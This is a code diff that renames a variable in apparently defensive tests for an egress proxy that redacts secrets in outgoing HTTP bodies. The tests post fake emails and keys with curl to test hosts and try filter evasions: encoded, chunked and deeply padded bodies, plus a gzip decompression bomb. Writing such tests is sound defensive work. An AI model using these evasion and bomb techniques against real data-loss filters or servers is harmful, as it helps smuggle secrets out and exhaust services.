@@ -17,10 +17,10 @@ def setUpModule():
     attack.begin("--sanitise-streams", "enforce")
 
 
-def post(box, body, user, options="", url="https://a.test/echo"):
+def post(sandbox, body, user, options="", url="https://a.test/echo"):
     """Sends a body that is in a file; what came back."""
-    box.put("/tmp/body", body if isinstance(body, bytes) else body.encode())
-    return box.sh(f"curl -sS -m 20 {options} --data-binary @/tmp/body {url}", user=user)[1]
+    sandbox.put("/tmp/body", body if isinstance(body, bytes) else body.encode())
+    return sandbox.sh(f"curl -sS -m 20 {options} --data-binary @/tmp/body {url}", user=user)[1]
 
 
 def bodies(seen):
@@ -29,29 +29,29 @@ def bodies(seen):
 
 class Content(attack.Case):
     def test_E31_prompts(self, user):
-        box = self.box(network=INSPECTED)
+        sandbox = self.sandbox(network=INSPECTED)
         body = json.dumps({"model": "x", "messages": [{"role": "user", "content": f"{what}: {text}"}
                                                       for what, text in SECRETS.items()]})
         before = attack.bed.now()
-        post(box, body, user, "-H 'Content-Type: application/json'")
+        post(sandbox, body, user, "-H 'Content-Type: application/json'")
         got = bodies(before)
         for what, text in SECRETS.items():
             self.assertNotIn(json.dumps(text)[1:-1], got, what)
             self.assertNotIn(text.splitlines()[min(1, text.count("\n"))], got, what)
         self.assertEqual([m["content"].partition(":")[0] for m in json.loads(got)["messages"]], list(SECRETS))
-        [record] = self.on_record(box, kind="sanitise", name="a.test")
+        [record] = self.on_record(sandbox, kind="sanitise", name="a.test")
         self.assertRegex(record["detail"], r"email=1\b.*card=1|card=1\b.*email=1|email=1")
-        self.assertNotIn(MAIL, json.dumps(attack.records(box)))
+        self.assertNotIn(MAIL, json.dumps(attack.records(sandbox)))
 
     def test_E31_plain_http_too(self, user):
-        box = self.box(network=INSPECTED)
+        sandbox = self.sandbox(network=INSPECTED)
         before = attack.bed.now()
-        post(box, f"mail {MAIL} key {AWS}", user, url="http://a.test/echo")
+        post(sandbox, f"mail {MAIL} key {AWS}", user, url="http://a.test/echo")
         got = bodies(before)
         self.assertTrue("mail" in got and MAIL not in got and AWS not in got, got)
 
     def test_E32_evasions_that_are_caught(self, user):
-        box = self.box(network=INSPECTED)
+        sandbox = self.sandbox(network=INSPECTED)
         form = "\r\n".join(["--x", 'Content-Disposition: form-data; name="f"; filename="f.txt"', "", MAIL, "--x--", ""])
         escaped = MAIL.replace("@", "\\u0040").replace("j", "\\u006a", 1)
         deep = "x" * 70_000 + " " + MAIL + " " + "y" * 70_000
@@ -77,32 +77,31 @@ show([attempt(send, "Transfer-Encoding: chunked", chunks, 0.002),
       attempt(send, f"Content-Encoding: br\\r\\nContent-Length: {len(packed)}", [packed], 0)])
 """
         before = attack.bed.now()
-        self.probe(box, code, user, MAIL)
-        post(box, form, user, "-H 'Content-Type: multipart/form-data; boundary=x'")
-        post(box, f'{{"prompt": "{escaped}"}}', user)
-        post(box, deep, user, "-o /tmp/deep-$USER")
+        self.probe(sandbox, code, user, MAIL)
+        post(sandbox, form, user, "-H 'Content-Type: multipart/form-data; boundary=x'")
+        post(sandbox, f'{{"prompt": "{escaped}"}}', user)
+        post(sandbox, deep, user, "-o /tmp/deep-$USER")
         got = bodies(before)
-        deep = box.get(f"/tmp/deep-{user}").body.decode()
+        deep = sandbox.get(f"/tmp/deep-{user}").body.decode()
         self.assertIn("[EMAIL]", deep)
         for form in (MAIL, escaped, MAIL.partition("@")[2]):
             self.assertNotIn(form, got + deep)
 
     def test_E32_a_body_that_unpacks_to_too_much(self, user):
-        box = self.box(network=INSPECTED)
+        sandbox = self.sandbox(network=INSPECTED)
         rss = attack.host.rss_mib(self.guard)
-        out = box.sh("head -c 300000000 /dev/zero | gzip -9 >/tmp/bomb-$USER.gz; curl -sS -m 30 -o /dev/null -w "
-                     "'%{http_code}' "
-                     "-H 'Content-Encoding: gzip' -H Expect: --data-binary @/tmp/bomb-$USER.gz https://a.test/upload",
-                     user=user)[1]
+        out = sandbox.sh("head -c 300000000 /dev/zero | gzip -9 >/tmp/bomb-$USER.gz; curl -sS -m 30 -o /dev/null -w "
+                         "'%{http_code}' -H 'Content-Encoding: gzip' -H Expect: "
+                         "--data-binary @/tmp/bomb-$USER.gz https://a.test/upload", user=user)[1]
         self.assertLess(attack.host.rss_mib(self.guard) - rss, 32)
         self.assertRegex(out, r"^4\d\d|000", out)
 
     def test_E32_names_without_a_rule_are_not_looked_into(self, user):
         """Said so in the documents: who needs it gives the name a rule."""
-        box = self.box(network=INSPECTED)
-        trust = box.trust()
+        sandbox = self.sandbox(network=INSPECTED)
+        trust = sandbox.trust()
         before = attack.bed.now()
-        self.sh(box, f"{trust}; curl -sS -m 20 -d '{MAIL}' https://x.b.test/echo", user)
+        self.sh(sandbox, f"{trust}; curl -sS -m 20 -d '{MAIL}' https://x.b.test/echo", user)
         self.assertEqual(bodies(before), MAIL)
 
 
